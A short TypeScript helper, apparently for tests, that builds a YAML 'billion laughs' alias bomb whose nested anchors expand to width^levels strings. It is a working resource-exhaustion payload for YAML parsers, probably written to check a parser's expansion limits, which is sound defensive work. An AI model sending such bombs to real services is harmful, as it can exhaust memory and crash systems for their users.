/** "Billion laughs" in YAML: level k is a list of `width` aliases of level k-1 (width^levels strings in all) */
export function aliasBomb(levels: number, width = 9): string {
  const lines = [`l0: &l0 [${Array(width).fill('"lol"').join(", ")}]`];
  for (let level = 1; level <= levels; level++) {
    lines.push(`l${level}: &l${level} [${Array(width).fill(`*l${level - 1}`).join(", ")}]`);
  }
  return `${lines.join("\n")}\n`;
}
